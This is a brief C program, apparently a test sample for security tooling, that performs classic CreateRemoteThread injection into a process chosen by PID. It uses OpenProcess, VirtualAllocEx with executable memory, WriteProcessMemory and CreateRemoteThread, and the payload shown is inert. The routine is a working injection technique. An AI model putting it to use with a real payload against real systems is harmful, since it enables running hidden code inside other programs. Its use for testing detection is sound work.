/* Classic CreateRemoteThread injection into a process given by PID. Never run: test sample. */
#include <windows.h>
#include <stdlib.h>
int main(int argc, char **argv) {
    unsigned char payload[] = {0x90, 0x90, 0xc3};
    DWORD pid = argc > 1 ? (DWORD)atoi(argv[1]) : 0;
    HANDLE p = OpenProcess(PROCESS_ALL_ACCESS, FALSE, pid);
    if (!p) return 1;
    LPVOID mem = VirtualAllocEx(p, NULL, sizeof payload, MEM_COMMIT | MEM_RESERVE, PAGE_EXECUTE_READWRITE);
    WriteProcessMemory(p, mem, payload, sizeof payload, NULL);
    CreateRemoteThread(p, NULL, 0, (LPTHREAD_START_ROUTINE)mem, NULL, 0, NULL);
    return 0;
}
